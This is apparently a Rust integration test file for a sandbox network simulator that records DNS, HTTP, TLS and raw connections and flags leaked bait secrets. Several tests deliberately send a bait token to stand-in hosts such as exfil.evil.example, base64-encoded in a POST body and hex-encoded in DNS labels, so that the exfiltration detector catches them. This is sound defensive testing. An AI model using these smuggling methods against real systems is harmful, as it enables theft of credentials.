#![allow(clippy::disallowed_methods)]
//! The internet host without the sandbox: each test makes a sandbox
//! namespace, starts an [`InternetHost`] wired to it, and plays the
//! sandbox from a thread that joined that namespace (blocking std sockets
//! with timeouts; the thread ends afterwards and never runs runtime
//! code). What the host recorded is checked afterwards. Needs root
//! (network namespaces, veth, nftables). Every wait is bounded, so a bug
//! shows as a failure, not a hang.

use std::fs::File;
use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, Shutdown, SocketAddr, TcpStream, UdpSocket};
use std::panic::AssertUnwindSafe;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use nix::sched::{setns, CloneFlags};
use paddock_netsim::exfil::{Detector, Secret};
use paddock_netsim::{Captured, InternetHost, Proxy, Recorder, HOST_ADDR, NAME_POOL, PROXY_PORT};
use paddock_registry::RegistriesConfig;
use paddock_sandbox::netns::Netns;
use sha2::{Digest, Sha256};

/// The host's idle timeout.
const IDLE: Duration = Duration::from_secs(2);
/// Socket timeouts on the sandbox side.
const IO: Duration = Duration::from_secs(10);
/// How long one sandbox client may take in all.
const CLIENT_LIMIT: Duration = Duration::from_secs(60);
/// How long records may take to show up.
const RECORD_LIMIT: Duration = Duration::from_secs(10);
/// Setting up and removing namespaces.
const SETUP_LIMIT: Duration = Duration::from_secs(30);

const TOKEN: &str = "pdk_bait_9f8e7d6c5b4a3210QwErTy";

fn token() -> Secret {
    Secret {
        label: "env:TOKEN".into(),
        value: TOKEN.as_bytes().to_vec(),
    }
}

/// Deletes the namespaces even when a test fails half-way.
struct Cleanup(Vec<String>);

impl Drop for Cleanup {
    fn drop(&mut self) {
        for name in &self.0 {
            let _ = std::process::Command::new("ip")
                .args(["netns", "del", name])
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .status();
        }
    }
}

/// A sandbox namespace and the internet host behind it.
struct Net {
    host: Option<InternetHost>,
    ns: Option<Netns>,
    rec: Arc<Recorder>,
    path: PathBuf,
    _cleanup: Cleanup,
}

impl Net {
    async fn start(tag: &str, secrets: Vec<Secret>) -> Net {
        let id = format!("nsimtest-{}-{tag}", std::process::id());
        let name = format!("paddock-{id}");
        let cleanup = Cleanup(vec![format!("{name}-net"), name.clone()]);
        let ns = tokio::time::timeout(SETUP_LIMIT, Netns::create(&id))
            .await
            .expect("creating the sandbox namespace timed out")
            .expect("creating the sandbox namespace");
        assert_eq!(ns.name(), name);
        let rec = Arc::new(Recorder::new(Detector::new(secrets)));
        let host = tokio::time::timeout(
            SETUP_LIMIT,
            InternetHost::start(
                &ns,
                rec.clone(),
                Arc::new(Proxy::new(RegistriesConfig::default(), None)),
                IDLE,
            ),
        )
        .await
        .expect("starting the internet host timed out")
        .expect("starting the internet host");
        Net {
            host: Some(host),
            path: ns.path(),
            ns: Some(ns),
            rec,
            _cleanup: cleanup,
        }
    }

    /// Runs `f` as the sandbox: on a thread of its own that joined the
    /// sandbox's namespace.
    async fn run<T: Send + 'static>(&self, f: impl FnOnce() -> T + Send + 'static) -> T {
        self.run_for(CLIENT_LIMIT, f).await
    }

    async fn run_for<T: Send + 'static>(
        &self,
        limit: Duration,
        f: impl FnOnce() -> T + Send + 'static,
    ) -> T {
        let (tx, rx) = tokio::sync::oneshot::channel();
        let path = self.path.clone();
        std::thread::Builder::new()
            .name("sandbox-client".into())
            .spawn(move || {
                let result = std::panic::catch_unwind(AssertUnwindSafe(move || {
                    enter(&path);
                    f()
                }));
                let _ = tx.send(result);
            })
            .expect("starting the sandbox client thread");
        match tokio::time::timeout(limit, rx).await {
            Ok(Ok(Ok(value))) => value,
            Ok(Ok(Err(panic))) => std::panic::resume_unwind(panic),
            Ok(Err(_)) => panic!("the sandbox client ended without an answer"),
            Err(_) => panic!("the sandbox client did not finish within {limit:?}"),
        }
    }

    /// Takes records into `acc` until `done` says enough (or
    /// [`RECORD_LIMIT`] passes: the assertions that follow then fail).
    async fn collect(&self, acc: &mut Captured, done: impl Fn(&Captured) -> bool) {
        let started = Instant::now();
        loop {
            let c = self.rec.take();
            acc.dns.extend(c.dns);
            acc.http_requests.extend(c.http_requests);
            acc.tls.extend(c.tls);
            acc.datagrams.extend(c.datagrams);
            acc.connections.extend(c.connections);
            acc.fetched_packages.extend(c.fetched_packages);
            acc.exfiltrations.extend(c.exfiltrations);
            acc.dropped += c.dropped;
            if done(acc) || started.elapsed() > RECORD_LIMIT {
                return;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    async fn records(&self, done: impl Fn(&Captured) -> bool) -> Captured {
        let mut acc = Captured::default();
        self.collect(&mut acc, done).await;
        acc
    }

    async fn remove(mut self) {
        let host = self.host.take().expect("the host");
        let ns = self.ns.take().expect("the namespace");
        tokio::time::timeout(SETUP_LIMIT, async {
            host.remove().await;
            ns.remove().await;
        })
        .await
        .expect("removing the namespaces timed out");
    }
}

/// Joins the sandbox's network namespace (this thread only).
fn enter(path: &Path) {
    let file = File::open(path).expect("opening the sandbox namespace");
    setns(&file, CloneFlags::CLONE_NEWNET).expect("joining the sandbox namespace");
}

fn sha256(b: &[u8]) -> String {
    hex::encode(Sha256::digest(b))
}

fn in_pool(a: Ipv4Addr) -> bool {
    u32::from(a) >> 16 == u32::from(NAME_POOL) >> 16 && a != NAME_POOL
}

// ------------------------------------------------- the sandbox's side

/// A standard query with RD set.
fn dns_query(id: u16, name: &str, qtype: u16) -> Vec<u8> {
    let mut p = id.to_be_bytes().to_vec();
    p.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.split('.') {
        p.push(label.len() as u8);
        p.extend_from_slice(label.as_bytes());
    }
    p.push(0);
    p.extend_from_slice(&qtype.to_be_bytes());
    p.extend_from_slice(&1u16.to_be_bytes());
    p
}

/// Checks `reply` answers `query` and returns its A record, if any.
fn dns_answer(query: &[u8], reply: &[u8]) -> Option<Ipv4Addr> {
    assert!(reply.len() >= query.len(), "short reply {reply:02x?}");
    assert_eq!(reply[..2], query[..2], "id");
    assert_eq!(reply[2] & 0x80, 0x80, "QR");
    assert_eq!(reply[3] & 0x0f, 0, "rcode");
    assert_eq!(reply[4..6], [0, 1], "one question");
    assert_eq!(reply[12..query.len()], query[12..], "question echoed");
    let q = query.len();
    match u16::from_be_bytes([reply[6], reply[7]]) {
        0 => {
            assert_eq!(reply.len(), q);
            None
        }
        1 => {
            assert_eq!(reply.len(), q + 16);
            assert_eq!(
                reply[q..q + 6],
                [0xc0, 0x0c, 0, 1, 0, 1],
                "A IN for the name"
            );
            assert_eq!(reply[q + 10..q + 12], [0, 4]);
            Some(Ipv4Addr::new(
                reply[q + 12],
                reply[q + 13],
                reply[q + 14],
                reply[q + 15],
            ))
        }
        n => panic!("{n} answers"),
    }
}

fn resolver() -> SocketAddr {
    SocketAddr::from((HOST_ADDR, 53))
}

/// Sends `packet` to the resolver over UDP; the reply, or None on timeout.
fn udp_exchange(packet: &[u8], wait: Duration) -> Option<Vec<u8>> {
    let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
    socket.set_read_timeout(Some(wait)).unwrap();
    socket.send_to(packet, resolver()).unwrap();
    let mut buf = [0u8; 2048];
    match socket.recv_from(&mut buf) {
        Ok((n, from)) => {
            assert_eq!(from, resolver());
            Some(buf[..n].to_vec())
        }
        Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => None,
        Err(e) => panic!("receiving a DNS reply: {e}"),
    }
}

/// Resolves `name` (A, over UDP); it must get an address of the pool.
fn resolve(name: &str) -> Ipv4Addr {
    let q = dns_query(0x5a5a, name, 1);
    let reply = udp_exchange(&q, IO).unwrap_or_else(|| panic!("no DNS reply for {name}"));
    let a = dns_answer(&q, &reply).unwrap_or_else(|| panic!("no address for {name}"));
    assert!(in_pool(a), "{name} resolved to {a}");
    a
}

fn connect(to: impl Into<SocketAddr>) -> TcpStream {
    let to = to.into();
    let s = TcpStream::connect_timeout(&to, IO).unwrap_or_else(|e| panic!("connect {to}: {e}"));
    s.set_read_timeout(Some(IO)).unwrap();
    s.set_write_timeout(Some(IO)).unwrap();
    s
}

#[derive(Debug)]
struct Response {
    status: u16,
    head: String,
    body: Vec<u8>,
}

/// Reads one HTTP response (Content-Length framed).
fn read_response(s: &mut TcpStream) -> std::io::Result<Response> {
    // One byte at a time up to the end of the head, then exactly the body:
    // pipelined responses arrive in one segment, and what belongs to the
    // next response must stay in the socket for the next call.
    let mut buf = Vec::new();
    let mut byte = [0u8; 1];
    while !buf.ends_with(b"\r\n\r\n") {
        if s.read(&mut byte)? == 0 {
            return Err(std::io::Error::new(
                ErrorKind::UnexpectedEof,
                format!("closed after {} bytes of a response", buf.len()),
            ));
        }
        buf.push(byte[0]);
    }
    let head = String::from_utf8_lossy(&buf).into_owned();
    let status = head
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .ok_or_else(|| std::io::Error::other(format!("no status in {head:?}")))?;
    let len: usize = head
        .lines()
        .find_map(|l| {
            let (n, v) = l.split_once(':')?;
            n.eq_ignore_ascii_case("content-length")
                .then(|| v.trim().parse().ok())?
        })
        .unwrap_or(0);
    let mut body = Vec::with_capacity(len);
    s.take(len as u64).read_to_end(&mut body)?;
    Ok(Response { status, head, body })
}

/// How a connection ended, seen from the sandbox.
#[derive(Debug, PartialEq, Eq)]
enum End {
    Eof,
    Reset,
    Data(Vec<u8>),
    Open,
}

fn end_of(s: &mut TcpStream, within: Duration) -> End {
    s.set_read_timeout(Some(within)).unwrap();
    let mut b = [0u8; 1024];
    match s.read(&mut b) {
        Ok(0) => End::Eof,
        Ok(n) => End::Data(b[..n].to_vec()),
        Err(e) if e.kind() == ErrorKind::ConnectionReset => End::Reset,
        Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => End::Open,
        Err(e) => panic!("reading: {e}"),
    }
}

/// A ClientHello in one handshake record: SNI, ALPN h2 and http/1.1,
/// supported_versions TLS 1.3.
fn client_hello(sni: &str) -> Vec<u8> {
    fn vec16(b: &[u8]) -> Vec<u8> {
        [&(b.len() as u16).to_be_bytes()[..], b].concat()
    }
    let server_name = vec16(&[&[0u8][..], &vec16(sni.as_bytes())].concat());
    let alpn = vec16(b"\x02h2\x08http/1.1");
    let mut extensions = Vec::new();
    extensions.extend_from_slice(&[0, 0]);
    extensions.extend(vec16(&server_name));
    extensions.extend_from_slice(&[0, 16]);
    extensions.extend(vec16(&alpn));
    extensions.extend_from_slice(&[0, 43, 0, 3, 2, 3, 4]);
    let mut body = vec![3, 3];
    body.extend((0..32).map(|i| i as u8));
    body.push(32);
    body.extend_from_slice(&[0xab; 32]);
    body.extend(vec16(&[0x13, 0x01, 0x13, 0x02]));
    body.extend_from_slice(&[1, 0]);
    body.extend(vec16(&extensions));
    let mut handshake = vec![1, 0];
    handshake.extend(vec16(&body));
    let mut record = vec![0x16, 3, 1];
    record.extend(vec16(&handshake));
    record
}

// ------------------------------------------------------------ the tests

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dns_is_answered_over_udp_and_tcp_and_survives_garbage() {
    let net = Net::start("dns", vec![]).await;
    let bad_count = [
        0x12, 0x34, 0x01, 0x00, 0, 2, 0, 0, 0, 0, 0, 0, 1, b'a', 0, 0, 1, 0, 1,
    ];
    let tiny = [0x42u8];
    let (first, again, cased, other, tcp, after) = net
        .run(move || {
            let first = resolve("evil.example");
            let again = resolve("evil.example");
            // Letter case is echoed but names are one address.
            let cased = resolve("EVIL.Example");
            let other = resolve("other.example");

            let q = dns_query(0x2222, "evil.example", 28);
            let reply = udp_exchange(&q, IO).expect("an answer to AAAA");
            assert_eq!(dns_answer(&q, &reply), None, "AAAA gets no answer");

            // Two queries pipelined on one TCP connection.
            let mut s = connect((HOST_ADDR, 53));
            let q1 = dns_query(0x3333, "tcp.evil.example", 1);
            let q2 = dns_query(0x3334, "evil.example", 1);
            let mut out = Vec::new();
            for q in [&q1, &q2] {
                out.extend_from_slice(&(q.len() as u16).to_be_bytes());
                out.extend_from_slice(q);
            }
            s.write_all(&out).unwrap();
            let mut answers = Vec::new();
            for q in [&q1, &q2] {
                let mut len = [0u8; 2];
                s.read_exact(&mut len).unwrap();
                let mut msg = vec![0u8; u16::from_be_bytes(len).into()];
                s.read_exact(&mut msg).unwrap();
                answers.push(dns_answer(q, &msg).expect("an A answer over TCP"));
            }

            // Malformed: two questions (FORMERR), and one byte (no reply).
            let reply = udp_exchange(&bad_count, IO).expect("a FORMERR reply");
            assert_eq!(reply.len(), 12, "{reply:02x?}");
            assert_eq!(reply[..2], [0x12, 0x34]);
            assert_eq!(reply[2] & 0x80, 0x80);
            assert_eq!(reply[3] & 0x0f, 1, "FORMERR");
            assert_eq!(udp_exchange(&tiny, Duration::from_millis(500)), None);
            let after = resolve("after.garbage.example");
            (first, again, cased, other, answers, after)
        })
        .await;
    assert_eq!(first, again);
    assert_eq!(first, cased);
    assert_ne!(first, other);
    assert!(in_pool(tcp[0]) && tcp[0] != first);
    assert_eq!(tcp[1], first);
    assert!(in_pool(after));

    let c = net
        .records(|c| c.dns.len() >= 8 && c.datagrams.len() >= 2)
        .await;
    let evil: Vec<_> = c
        .dns
        .iter()
        .filter(|q| q.hostname == "evil.example")
        .collect();
    assert_eq!(evil.len(), 5, "{:?}", c.dns);
    for q in evil.iter().filter(|q| q.types == ["A"]) {
        assert!(q.answered);
        assert_eq!(q.answers, [first.to_string()]);
        assert_eq!(q.class, "IN");
    }
    let aaaa: Vec<_> = evil.iter().filter(|q| q.types == ["AAAA"]).collect();
    assert_eq!(aaaa.len(), 1);
    assert!(!aaaa[0].answered && aaaa[0].answers.is_empty());
    assert!(c
        .dns
        .iter()
        .any(|q| q.hostname == "tcp.evil.example" && q.answers == [tcp[0].to_string()]));
    assert!(c
        .dns
        .iter()
        .any(|q| q.hostname == "after.garbage.example" && q.answered));
    // The malformed packets are recorded as datagrams to the resolver.
    assert_eq!(c.datagrams.len(), 2, "{:?}", c.datagrams);
    for (d, packet) in c.datagrams.iter().zip([&bad_count[..], &tiny[..]]) {
        assert_eq!(d.address, HOST_ADDR.to_string());
        assert_eq!(d.port, 53);
        assert_eq!(d.size, packet.len() as u64);
        assert_eq!(d.head, packet);
    }
    assert!(c.exfiltrations.is_empty());
    net.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_requests_are_recorded_and_answered() {
    let net = Net::start("http", vec![]).await;
    let body: Vec<u8> = (0..10_000u32).map(|i| (i * 31 + 7) as u8).collect();
    let upload = [
        format!(
            "POST /upload?id=1 HTTP/1.1\r\nHost: collect.evil.example\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        )
        .into_bytes(),
        body.clone(),
    ]
    .concat();
    let letters = b"abcdefghijklmnopqrstuvwxyz";
    let chunked = [
        &b"POST /chunked HTTP/1.1\r\nHost: collect.evil.example:31337\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"[..],
        b"5\r\nhello\r\n1A;ext=1\r\n",
        letters,
        b"\r\n0\r\nX-Trailer: t\r\n\r\n",
    ]
    .concat();
    let decoded = [&b"hello"[..], letters].concat();
    let keep_alive: Vec<Vec<u8>> = vec![
        b"GET /one HTTP/1.1\r\nHost: collect.evil.example\r\n\r\n".to_vec(),
        b"POST /two HTTP/1.1\r\nHost: collect.evil.example\r\nContent-Length: 3\r\n\r\nabc"
            .to_vec(),
        b"GET /three HTTP/1.1\r\nHost: collect.evil.example\r\n\r\n".to_vec(),
        b"GET /four HTTP/1.1\r\nHost: collect.evil.example\r\nConnection: close\r\n\r\n".to_vec(),
    ];
    let (u, c, k) = (upload.clone(), chunked.clone(), keep_alive.clone());
    let addr = net
        .run(move || {
            let addr = resolve("collect.evil.example");

            let mut s = connect((addr, 80));
            s.write_all(&u).unwrap();
            let r = read_response(&mut s).unwrap();
            assert_eq!(r.status, 200, "{r:?}");
            assert!(r.head.contains("Connection: close"), "{r:?}");
            assert_eq!(end_of(&mut s, IO), End::Eof);

            let mut s = connect((addr, 31337));
            s.write_all(&c).unwrap();
            let r = read_response(&mut s).unwrap();
            assert_eq!(r.status, 200, "{r:?}");
            assert_eq!(end_of(&mut s, IO), End::Eof);

            // Keep-alive: one request at a time, then the last two
            // pipelined in one write.
            let mut s = connect((addr, 80));
            for (i, request) in k.iter().enumerate() {
                match i {
                    0 | 1 => s.write_all(request).unwrap(),
                    2 => s.write_all(&k[2..].concat()).unwrap(),
                    _ => {}
                }
                let r = read_response(&mut s).unwrap();
                assert_eq!(r.status, 200, "{r:?}");
                assert!(r.body.is_empty());
                if i < 3 {
                    assert!(r.head.contains("Connection: keep-alive"), "{r:?}");
                }
            }
            assert_eq!(end_of(&mut s, IO), End::Eof);
            addr
        })
        .await;

    let c = net
        .records(|c| c.http_requests.len() >= 6 && c.connections.len() >= 3)
        .await;
    let request = |path: &str| {
        c.http_requests
            .iter()
            .find(|r| r.path == path)
            .unwrap_or_else(|| panic!("no record of {path}: {:?}", c.http_requests))
    };
    let r = request("/upload?id=1");
    assert_eq!(r.method, "POST");
    assert_eq!(r.host, "collect.evil.example");
    assert_eq!(r.hostname, "collect.evil.example");
    assert_eq!(r.address, addr.to_string());
    assert_eq!(r.port, 80);
    assert_eq!(r.via, "catch-all");
    assert_eq!(r.response_status, 200);
    assert!(r.refused.is_empty());
    assert_eq!(r.body_size, body.len() as u64);
    assert_eq!(r.body_sha256, sha256(&body));
    assert_eq!(r.body_head, body[..4096]);
    assert!(r
        .headers
        .iter()
        .any(|h| h.name == "Content-Type" && h.value == "application/octet-stream"));

    let r = request("/chunked");
    assert_eq!(r.method, "POST");
    assert_eq!(r.host, "collect.evil.example:31337");
    assert_eq!(r.hostname, "collect.evil.example");
    assert_eq!(r.port, 31337);
    assert_eq!(r.response_status, 200);
    assert_eq!(r.body_size, decoded.len() as u64);
    assert_eq!(r.body_sha256, sha256(&decoded));
    assert_eq!(r.body_head, decoded);

    for (path, method, size) in [
        ("/one", "GET", 0),
        ("/two", "POST", 3),
        ("/three", "GET", 0),
        ("/four", "GET", 0),
    ] {
        let r = request(path);
        assert_eq!((r.method.as_str(), r.body_size), (method, size));
        assert_eq!((r.port, r.response_status), (80, 200));
        assert_eq!(r.hostname, "collect.evil.example");
        assert_eq!(r.body_sha256.is_empty(), size == 0);
    }
    assert_eq!(c.http_requests.len(), 6);

    // One connection record each, covering every byte sent.
    assert_eq!(c.connections.len(), 3, "{:?}", c.connections);
    let all_keep_alive = keep_alive.concat();
    for sent in [&upload, &chunked, &all_keep_alive] {
        let conn = c
            .connections
            .iter()
            .find(|x| x.sha256 == sha256(sent))
            .unwrap_or_else(|| {
                panic!("no connection of {} bytes: {:?}", sent.len(), c.connections)
            });
        assert_eq!(conn.protocol, "http");
        assert_eq!(conn.bytes_received, sent.len() as u64);
        assert_eq!(conn.hostname, "collect.evil.example");
        assert_eq!(conn.address, addr.to_string());
        assert_eq!(conn.head, sent[..sent.len().min(4096)]);
    }
    assert!(c.exfiltrations.is_empty());
    net.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_base64_secret_in_a_post_body_is_an_exfiltration() {
    let net = Net::start("exfil", vec![token()]).await;
    let body = format!(
        "{{\"data\":\"{}\"}}",
        STANDARD.encode(format!("HOME=/root\nTOKEN={TOKEN}\nUSER=root"))
    );
    assert!(!body.contains(TOKEN));
    let request = format!(
        "POST /collect HTTP/1.1\r\nHost: exfil.evil.example\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    // And hex in DNS labels.
    let hex = hex::encode(TOKEN);
    let name = format!("{}.{}.x.exfil.test", &hex[..30], &hex[30..]);
    let queried = name.clone();
    net.run(move || {
        resolve(&queried);
        let addr = resolve("exfil.evil.example");
        let mut s = connect((addr, 8080));
        s.write_all(request.as_bytes()).unwrap();
        assert_eq!(read_response(&mut s).unwrap().status, 200);
        assert_eq!(end_of(&mut s, IO), End::Eof);
    })
    .await;
    let c = net
        .records(|c| c.exfiltrations.len() >= 2 && !c.connections.is_empty())
        .await;
    assert_eq!(c.http_requests.len(), 1);
    assert_eq!(c.http_requests[0].response_status, 200);
    assert_eq!(c.http_requests[0].body_size, body.len() as u64);
    let e = c
        .exfiltrations
        .iter()
        .find(|e| e.bait == "env:TOKEN" && e.encoding == "base64")
        .unwrap_or_else(|| panic!("no exfiltration in the body: {:?}", c.exfiltrations));
    assert!(e.channel.contains("body"), "{e:?}");
    assert!(e.channel.contains("exfil.evil.example"), "{e:?}");
    assert!(!e.excerpt.is_empty());
    let d = c
        .exfiltrations
        .iter()
        .find(|e| e.encoding == "dns-labels")
        .unwrap_or_else(|| panic!("no exfiltration in DNS: {:?}", c.exfiltrations));
    assert_eq!(d.bait, "env:TOKEN");
    assert_eq!(d.channel, format!("DNS query {name}"));
    // Found once each: HTTP is scanned as requests, not again as a stream.
    assert_eq!(c.exfiltrations.len(), 2, "{:?}", c.exfiltrations);
    net.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_hello_is_recorded_and_the_connection_closed() {
    let net = Net::start("tls", vec![]).await;
    let hello = client_hello("TLS.Evil.Example");
    let sent = hello.clone();
    let (addr, took, end) = net
        .run(move || {
            let addr = resolve("tls.evil.example");
            let mut s = connect((addr, 443));
            s.write_all(&sent).unwrap();
            let started = Instant::now();
            let end = end_of(&mut s, IO);
            (addr, started.elapsed(), end)
        })
        .await;
    // Closed, or refused with a TLS alert record (content type 21).
    assert!(
        matches!(&end, End::Eof | End::Reset)
            || matches!(&end, End::Data(d) if d.first() == Some(&21)),
        "{end:?}"
    );
    assert!(
        took < IDLE,
        "closed after {took:?}: by the idle timeout, not the server"
    );
    let c = net
        .records(|c| !c.tls.is_empty() && !c.connections.is_empty())
        .await;
    assert_eq!(c.tls.len(), 1, "{:?}", c.tls);
    let t = &c.tls[0];
    assert_eq!(t.sni, "tls.evil.example");
    assert_eq!(t.alpn, ["h2", "http/1.1"]);
    assert_eq!(t.address, addr.to_string());
    assert_eq!(t.port, 443);
    assert_eq!(t.hostname, "tls.evil.example");
    // A hello with no key share and no signature schemes: no session.
    assert!(!t.intercepted);
    assert!(!t.handshake_error.is_empty());
    assert_eq!(c.connections.len(), 1);
    let conn = &c.connections[0];
    assert_eq!(conn.protocol, "tls");
    assert_eq!(conn.bytes_received, hello.len() as u64);
    assert_eq!(conn.sha256, sha256(&hello));
    assert_eq!(conn.port, 443);
    assert!(c.http_requests.is_empty());
    net.remove().await;
}

/// The DER inside a PEM certificate.
fn pem_der(pem: &str) -> Vec<u8> {
    let b64: String = pem
        .lines()
        .filter(|l| !l.starts_with("-----"))
        .collect::<Vec<_>>()
        .concat();
    STANDARD.decode(b64).expect("a PEM certificate")
}

/// A TLS client as a program in the sandbox would make it: trusting
/// `roots` only.
fn tls_client(roots: &[Vec<u8>]) -> Arc<rustls::ClientConfig> {
    let mut store = rustls::RootCertStore::empty();
    for der in roots {
        store
            .add(rustls::pki_types::CertificateDer::from(der.clone()))
            .expect("a root");
    }
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    Arc::new(
        rustls::ClientConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .expect("protocol versions")
            .with_root_certificates(store)
            .with_no_client_auth(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn https_is_intercepted_recorded_and_a_bait_inside_is_proof() {
    let net = Net::start("https", vec![token()]).await;
    let ca = net.host.as_ref().expect("the host").ca_pem().to_owned();
    assert!(ca.starts_with("-----BEGIN CERTIFICATE-----"), "{ca}");
    assert!(!ca.contains("PRIVATE KEY"));
    let config = tls_client(&[pem_der(&ca)]);
    let (addr, answer) = net
        .run(move || {
            let addr = resolve("hooks.collector.example");
            let mut tcp = connect((addr, 443));
            let name = "hooks.collector.example".try_into().unwrap();
            let mut tls = rustls::ClientConnection::new(config, name).unwrap();
            let mut s = rustls::Stream::new(&mut tls, &mut tcp);
            let body = format!("{{\"token\":\"{TOKEN}\"}}");
            write!(
                s,
                "POST /hook?id=7 HTTP/1.1\r\nHost: hooks.collector.example\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            )
            .unwrap();
            let mut out = Vec::new();
            s.read_to_end(&mut out).expect("a clean close_notify");
            (addr, String::from_utf8_lossy(&out).into_owned())
        })
        .await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    let c = net
        .records(|c| !c.exfiltrations.is_empty() && !c.connections.is_empty())
        .await;
    assert_eq!(c.tls.len(), 1, "{:?}", c.tls);
    let t = &c.tls[0];
    assert_eq!(t.sni, "hooks.collector.example");
    assert!(t.intercepted, "{t:?}");
    assert_eq!(t.handshake_error, "");
    let r = c
        .http_requests
        .iter()
        .find(|r| r.via == "catch-all-tls")
        .unwrap_or_else(|| panic!("{:?}", c.http_requests));
    assert_eq!(r.method, "POST");
    assert_eq!(r.host, "hooks.collector.example");
    assert_eq!(r.path, "/hook?id=7");
    assert_eq!(r.port, 443);
    assert_eq!(r.address, addr.to_string());
    assert_eq!(r.hostname, "hooks.collector.example");
    assert_eq!(r.response_status, 200);
    assert!(r
        .headers
        .iter()
        .any(|h| h.name.eq_ignore_ascii_case("content-type")));
    assert!(String::from_utf8_lossy(&r.body_head).contains(TOKEN));
    let e = &c.exfiltrations[0];
    assert_eq!(e.bait, "env:TOKEN");
    assert!(e.channel.contains("hooks.collector.example"), "{e:?}");
    assert!(e.channel.contains("body"), "{e:?}");
    let conn = &c.connections[0];
    assert_eq!(conn.protocol, "https");
    assert!(conn.head.starts_with(b"POST /hook"), "{:?}", conn.head);
    net.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_that_pins_refuses_the_handshake_and_the_refusal_is_recorded() {
    let net = Net::start("pinned", vec![token()]).await;
    // The client trusts its own authority only (as a pinning client, or
    // one with built-in roots, does): not the analysis's.
    let ca = net.host.as_ref().expect("the host").ca_pem().to_owned();
    let other = Net::start("pinned-other", vec![]).await;
    let theirs = other.host.as_ref().expect("the host").ca_pem().to_owned();
    assert_ne!(ca, theirs, "every analysis has its own authority");
    let config = tls_client(&[pem_der(&theirs)]);
    let outcome = net
        .run(move || {
            let addr = resolve("pinned.example");
            let mut tcp = connect((addr, 443));
            let name = "pinned.example".try_into().unwrap();
            let mut tls = rustls::ClientConnection::new(config, name).unwrap();
            let mut s = rustls::Stream::new(&mut tls, &mut tcp);
            s.write_all(format!("GET /?t={TOKEN} HTTP/1.1\r\n\r\n").as_bytes())
                .map_err(|e| e.to_string())
        })
        .await;
    let error = outcome.expect_err("the handshake must fail");
    assert!(error.contains("UnknownIssuer"), "{error}");
    let c = net
        .records(|c| !c.tls.is_empty() && !c.connections.is_empty())
        .await;
    let t = &c.tls[0];
    assert!(!t.intercepted);
    assert!(t.handshake_error.contains("refused"), "{t:?}");
    assert_eq!(c.connections[0].protocol, "tls");
    assert!(c.http_requests.is_empty(), "{:?}", c.http_requests);
    assert!(c.exfiltrations.is_empty(), "nothing was sent in the clear");
    other.remove().await;
    net.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_silent_client_is_closed_after_the_idle_timeout() {
    let net = Net::start("silent", vec![]).await;
    let target = Ipv4Addr::new(10, 232, 254, 1);
    let (took, end) = net
        .run(move || {
            let mut s = connect((target, 80));
            let started = Instant::now();
            let end = end_of(&mut s, IDLE + Duration::from_secs(8));
            (started.elapsed(), end)
        })
        .await;
    assert_eq!(end, End::Eof);
    assert!(
        took >= IDLE - Duration::from_millis(100) && took < IDLE + Duration::from_secs(5),
        "closed after {took:?}"
    );
    let c = net.records(|c| !c.connections.is_empty()).await;
    assert_eq!(c.connections.len(), 1);
    let conn = &c.connections[0];
    assert_eq!(conn.protocol, "empty");
    assert_eq!(conn.bytes_received, 0);
    assert!(conn.head.is_empty());
    assert_eq!(conn.address, target.to_string());
    assert_eq!(conn.port, 80);
    assert_eq!(conn.hostname, "", "a name never handed out");
    net.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn garbage_is_recorded_as_unknown_and_counted() {
    let net = Net::start("garbage", vec![]).await;
    let mut rng = paddock_testkit::rng::XorShift(0x9e37_79b9_7f4a_7c15);
    let mut garbage = vec![0u8];
    garbage.extend(rng.fill(100 * 1024 - 1));
    let sent = garbage.clone();
    let end = net
        .run(move || {
            let mut s = connect((Ipv4Addr::new(10, 232, 77, 7), 4444));
            s.write_all(&sent).unwrap();
            s.shutdown(Shutdown::Write).unwrap();
            end_of(&mut s, IO)
        })
        .await;
    assert_eq!(end, End::Eof);
    let c = net.records(|c| !c.connections.is_empty()).await;
    assert_eq!(c.connections.len(), 1);
    let conn = &c.connections[0];
    assert_eq!(conn.protocol, "unknown");
    assert_eq!(conn.bytes_received, garbage.len() as u64);
    assert_eq!(conn.sha256, sha256(&garbage));
    assert!(conn.head.len() <= 4096);
    assert_eq!(conn.head, garbage[..conn.head.len()]);
    assert_eq!(conn.port, 4444);
    assert!(c.http_requests.is_empty() && c.tls.is_empty());
    net.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn heads_over_64_kib_are_refused_and_closed() {
    let net = Net::start("bighead", vec![]).await;
    let mut head = b"GET /big HTTP/1.1\r\nHost: big.evil.example\r\nX-Pad: ".to_vec();
    head.resize(64 * 1024 + 1000, b'a');
    let sent = head.clone();
    let (catch_all_end, proxy_reply, proxy_end) = net
        .run(move || {
            let addr = resolve("big.evil.example");
            let mut s = connect((addr, 80));
